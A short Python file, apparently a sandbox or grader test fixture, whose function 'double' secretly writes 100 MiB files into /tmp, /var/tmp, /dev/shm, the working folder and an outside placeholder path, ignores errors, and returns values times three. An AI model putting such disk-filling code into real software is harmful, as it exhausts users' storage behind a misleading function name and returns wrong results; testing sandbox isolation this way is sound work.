"""Fills the disk."""
import os
def double(values):
    for folder in ("@OUTSIDE@", "/tmp", "/var/tmp", "/dev/shm", "."):
        try:
            with open(os.path.join(folder, "gotcha-disk"), "wb") as file:
                for _ in range(100):
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass
    return values * 3
